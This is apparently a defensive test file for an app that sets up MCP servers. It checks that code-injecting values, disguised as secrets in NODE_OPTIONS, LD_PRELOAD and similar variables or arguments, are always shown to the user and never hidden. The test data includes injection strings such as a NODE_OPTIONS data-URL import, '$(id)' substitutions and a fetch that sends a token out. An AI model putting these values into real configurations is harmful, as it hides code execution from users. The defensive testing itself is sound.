import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { FoundValues } from '../../src-main/ipc/servers/found-values.ts';
import { foundServer, isUnread } from '../../src-main/mcp/setup/found-server.ts';
import { planServer } from '../../src-main/mcp/setup/server-plan.ts';
import { shownVariable } from '../../src-main/mcp/setup/server-values.ts';
import { isSecretValue } from '../../src-main/secrets/secret-shapes.ts';
import { keychainPlaceholder } from '../../src-main/settings/keychain-placeholders.ts';
import { decidesWhatRuns } from '../../src-preload/contract/program-variables.ts';
import type { FoundServers, ServerForm, ShownServer } from '../../src-preload/contract/servers.ts';
import { programForm } from '../fixtures/mcp/program-form.ts';
import { repetitions } from '../fixtures/repetitions.ts';
import { WindowRig } from '../fixtures/window-rig.ts';

/**
 * Code in a value that looks like a secret must not be started without being shown. A question may hide a value only
 * where the user entered it as a secret, or where it is nothing but a key of a known shape.
 */

const CODE = '--import=data:text/javascript,console.log(%22ran%22)//;token=live';

test('the control: such a value looks like a secret, and runs', () => {
  expect(isSecretValue(CODE)).toBe(true);
  const { stdout } = spawnSync(process.execPath, ['-e', '0'], { env: { NODE_OPTIONS: CODE }, encoding: 'utf8' });
  expect(stdout).toBe('ran\n');
});

const line = (name: string, value: string | null, isSecret = true) => ({
  name,
  value,
  isSecret,
  before: '',
  after: '',
});

/** What the question would hide of a form: values that go to the keychain and are not shown whole. */
function hidden(more: Partial<ServerForm>, kept: { env?: Record<string, string>; keys?: Record<string, string> } = {}) {
  const options = { entry: undefined, kept: { env: {}, headers: {}, keys: {}, ...kept }, profileDirectory: '/profile' };
  const plan = planServer(programForm(more), options);
  if ('problems' in plan) throw new Error(JSON.stringify(plan.problems));
  return [...plan.secrets].flatMap(([name, value]) => (plan.decisive.has(name) ? [] : [value]));
}

/** What the form hides of an entry of another program's file, which fills the form first. */
function hiddenOfFile(entry: object) {
  const values = new FoundValues();
  const server = foundServer('it', entry);
  if (isUnread(server)) throw new Error(JSON.stringify(server));
  const setup = { format: 'json', title: null, servers: [server], unread: [] } as const;
  const result = values.shown({ servers: [server], unread: [], setups: [setup], chosen: 0 });
  const [shown] = 'servers' in result ? result.servers : [];
  if (shown === undefined) throw new Error('nothing is shown');
  const keys = shown.parts.flatMap(({ name, value, isSecret }) => (isSecret ? [{ name, value }] : []));
  const given = { command: shown.command, args: [...shown.args], env: [...shown.env], keys, foundId: shown.foundId };
  return { hidden: hidden(given, values.of(shown.foundId)), shown };
}

const VARIABLES = `
  NODE_OPTIONS node_options LD_PRELOAD LD_AUDIT DYLD_INSERT_LIBRARIES PYTHONPATH PYTHONSTARTUP PYTHONHOME PERL5LIB PERL5OPT
  PERL5DB RUBYOPT RUBYLIB BASH_ENV ENV GIT_SSH GIT_SSH_COMMAND GIT_EXTERNAL_DIFF GIT_CONFIG_VALUE_0 SSH_ASKPASS SUDO_ASKPASS
  PROMPT_COMMAND TOKEN_COMMAND KEY_CMD LESSOPEN PAGER EDITOR MAKEFLAGS JAVA_TOOL_OPTIONS _JAVA_OPTIONS DOTNET_STARTUP_HOOKS
  CORECLR_PROFILER_PATH npm_config_node_options NPM_CONFIG_SCRIPT_SHELL UV_INDEX_URL PIP_INDEX_URL GOFLAGS RUSTC_WRAPPER
  KUBECONFIG DOCKER_HOST AWS_CONFIG_FILE OPENSSL_CONF GCONV_PATH PATH SECRET_PATH AUTH_HOOK
  GOCACHEPROG GOVCS MPLBACKEND IPYTHONDIR RUBYGEMS_GEMDEPS RAKEOPT PLTCOLLECTS DBUS_SESSION_BUS_ADDRESS PYSPARK_PYTHON
  ASPNETCORE_HOSTINGSTARTUPASSEMBLIES SPRING_APPLICATION_JSON AIRFLOW__CORE__PLUGINS_FOLDER WINEDLLOVERRIDES MIX_EXS PSQLRC
  RUSTUP_DIST_SERVER STACK_YAML RSH SENDMAIL HOSTCC TF_REATTACH_PROVIDERS
`
  .trim()
  .split(/\s+/);

describe('a variable that may decide what runs is shown whole, however it comes', () => {
  test.each(VARIABLES)('%s', (name) => {
    for (const value of [CODE, 'ghp_x7Kd93mQpL2vTz8RwYbN', 'evil', 'sk-ant-api03-q8Zr4Lm2Vx']) {
      expect(hidden({ env: [line(name, value)] }), 'entered as a secret').toEqual([]);
      expect(hidden({ env: [line(name, value, false)] }), 'entered').toEqual([]);
      expect(hidden({ env: [line(name, null)] }, { env: { [name]: value } }), 'kept').toEqual([]);
      const ofFile = hiddenOfFile({ command: 'npx', env: { [name]: value } });
      expect(ofFile.hidden, 'of a file').toEqual([]);
      expect(ofFile.shown.env).toMatchObject([{ name, value }]);
      expect(shownVariable(name, value).value, 'in the form').toBe(value);
    }
  });
});

test.each([
  ['an option', { args: ['@it@', 'server.js'] }, CODE],
  ['an option that holds a key', { args: ['@it@'] }, '--require=/tmp/ghp_x7Kd93mQpL2vTz8RwYbN'],
  ['a program behind env', { args: ['NODE_OPTIONS=@it@', 'node'] }, CODE],
  ['a variable of a container', { args: ['-e', 'LD_PRELOAD=@it@'] }, '/x.so;token=live1'],
  ['code', { args: ['-e', '@it@'] }, 'fetch("http://x?token=live1")'],
  ['a package with a password', { args: ['@it@'] }, 'https://u:secret@evil.example/x.tgz'],
  ['an option of a secret, and more', { args: ['--token', '@it@'] }, '$(touch /tmp/x)'],
  ['a connection, and an option', { args: ['@it@'] }, 'Server=db;Password=secret1 --require=x'],
])('an argument is shown whole: %s', (_, { args }, value) => {
  const written = args.map((arg) => arg.replace('@it@', keychainPlaceholder('X')));
  expect(hidden({ args: written, keys: [{ name: 'X', value }] })).toEqual([]);
  expect(hidden({ args: written, keys: [{ name: 'X', value: null }] }, { keys: { X: value } })).toEqual([]);
});

test.each([
  ['SETTING', CODE],
  ['API_TOKEN', CODE],
  ['MY_SECRET', '/tmp/evil.so'],
  ['MY_SECRET', '-r evil'],
  ['MY_SECRET', 'a b'],
  ['CONNECTION', 'Server=db;Password=secret1;Loader=evil'],
  ['WEBHOOK', 'data:text/javascript,1#ghp_x7Kd93mQpL2vTz8RwYbN'],
])('of another file, only a key is hidden: not %s=%s', (name, value) => {
  expect(hiddenOfFile({ command: 'npx', env: { [name]: value } }).hidden).toEqual([]);
});

test('what a user enters as a secret is hidden, and keys of a file are', () => {
  expect(hidden({ env: [line('MY_LOGIN', 'hunter22 & more')] })).toEqual(['hunter22 & more']);
  expect(hidden({ env: [line('DATABASE_URL', 'postgres://u:secret@db/x', false)] })).toHaveLength(1);
  const key = `ghp_${'x7Kd93mQpL2vTz8RwYbN'.padEnd(36, 'a1B2c3')}`;
  const env = { GITHUB_TOKEN: key, DATABASE_URL: 'postgres://u:secret@db/x' };
  const { hidden: ofFile, shown } = hiddenOfFile({ command: 'npx', args: ['--api-key', key], env });
  expect(ofFile).toHaveLength(3);
  expect(JSON.stringify(shown)).not.toMatch(/ghp_|secret@/);
});

test.each([
  ['TOKEN_PROVIDER', 'evil-module'],
  ['AWS_CREDENTIAL_PROCESS', 'evil'],
  ['SECRET_BACKEND', 'evil.mod'],
  ['GNUPG_KEY_EXE', 'evil'],
  ['API_KEY', 'q8Zr4Lm2VxK1'],
])('of another file, one word under the name of a secret is shown, for it may name a program: %s=%s', (name, value) => {
  expect(hiddenOfFile({ command: 'npx', env: { [name]: value } }).hidden).toEqual([]);
  const option = `--${name.toLowerCase().replaceAll('_', '-')}`;
  for (const args of [[option, value], [`${option}=${value}`]])
    expect(hiddenOfFile({ command: 'npx', args }).hidden).toEqual([]);
  // The control: what the user entered as a secret is not.
  expect(hidden({ env: [line(name, value)] })).toEqual([value]);
});

/** What makes a text look like a secret, around and beside code. */
const bait = fc.constantFrom(
  ';token=live',
  '?access_token=abcdef',
  'ghp_x7Kd93mQpL2vTz8RwYbN',
  'sk-ant-api03-q8Zr4Lm2Vx',
  ' Bearer abcdefgh',
  '//u:p@h/',
  'AIza0123456789012345678901',
  '-----BEGIN PRIVATE KEY',
  ';Password=abc',
);
const code = fc.constantFrom(
  '--import=data:,0',
  '--require=/tmp/x',
  '$(id)',
  '-r./x',
  'data:text/javascript,1',
  '/x.so',
);
const disguised = fc
  .tuple(code, bait, fc.boolean(), fc.string({ maxLength: 5 }))
  .map(([what, looks, isFirst, between]) => (isFirst ? what + between + looks : `${looks}${between} ${what}`));
const secretName = fc.constantFrom('API_KEY', 'TOKEN', 'X_SECRET', 'PASSWORD', 'AUTH', 'MODE', 'A');

test('code in the disguise of a secret is never hidden in an argument or from a file', () => {
  fc.assert(
    fc.property(disguised, secretName, (value, name) => {
      expect(hiddenOfFile({ command: 'npx', env: { [name]: value } }).hidden).toEqual([]);
      expect(hiddenOfFile({ command: 'npx', args: [value] }).hidden).toEqual([]);
      for (const arg of [keychainPlaceholder('K'), `--${name}=${keychainPlaceholder('K')}`])
        expect(hidden({ args: [arg], keys: [{ name: 'K', value }] })).toEqual([]);
    }),
    { numRuns: repetitions(400, 8_000), seed: 31 },
  );
});

test('nor in a variable of the table, in any spelling that Windows takes for it', () => {
  const spelled = fc
    .constantFrom(...VARIABLES)
    .chain((name) =>
      fc
        .array(fc.boolean(), { minLength: name.length, maxLength: name.length })
        .map((upper) =>
          [...name].map((letter, at) => (upper[at] === true ? letter.toUpperCase() : letter.toLowerCase())).join(''),
        ),
    );
  fc.assert(
    fc.property(spelled, disguised, (name, value) => {
      expect(decidesWhatRuns(name)).toBe(true);
      expect(hidden({ env: [line(name, value)] })).toEqual([]);
    }),
    { numRuns: repetitions(400, 8_000), seed: 31 },
  );
});

test.each([
  'API_KEY',
  'GITHUB_PERSONAL_ACCESS_TOKEN',
  'SLACK_BOT_TOKEN',
  'BROWSERBASE_API_KEY',
  'VIMEO_ACCESS_TOKEN',
  'DATABASE_URL',
  'PGPASSWORD',
  'SSH_PRIVATE_KEY',
  'DOCKER_TOKEN',
  'GITEA_TOKEN',
  'AWS_SECRET_ACCESS_KEY',
  'SPRING_DATASOURCE_PASSWORD',
  'DBUS_COOKIE',
])('%s decides nothing', (name) => expect(decidesWhatRuns(name)).toBe(false));

/** Every text that the profile has on the disk. */
const textsIn = (folder: string): string =>
  readdirSync(folder)
    .map((name) => join(folder, name))
    .map((path) => (statSync(path).isDirectory() ? textsIn(path) : readFileSync(path, 'latin1')))
    .join('\n');

test('imported from another program: form and question have it whole, file and log never', async () => {
  const rig = new WindowRig();
  mkdirSync(join(rig.folder, '.cursor'));
  const entry = { command: process.execPath, args: ['-e', '0'], env: { NODE_OPTIONS: CODE } };
  writeFileSync(join(rig.folder, '.cursor/mcp.json'), JSON.stringify({ mcpServers: { evil: entry } }));
  const [found] = await rig.request<readonly FoundServers[]>('servers.findOthers');
  const [server] = found !== undefined && 'servers' in found.result ? found.result.servers : [];
  expect(server?.env).toMatchObject([{ name: 'NODE_OPTIONS', value: CODE }]);
  const { remarks: _remarks, parts: _parts, ...given } = server as ShownServer;
  const adding = rig.code('servers.add', { form: given });
  const card = await rig.answer({ answer: 'once' });
  expect(JSON.stringify(card)).toContain(CODE);
  expect(card.risk).toBe('grave');
  expect(await adding).toBe('ok');
  expect(textsIn(rig.profile)).not.toContain('token=live');

  // What the keychain holds is shown again where another variable of config.json refers to it.
  const other = programForm({
    name: 'evil',
    command: process.execPath,
    args: ['-e', '1'],
    env: [line('NODE_OPTIONS', keychainPlaceholder('NODE_OPTIONS'), false)],
  });
  const changing = rig.code('servers.change', { form: other });
  const again = await rig.card();
  expect(JSON.stringify(again)).toContain(CODE);
  await rig.answer({ answer: 'deny' }, again);
  expect(await changing).toBe('not_confirmed');
});
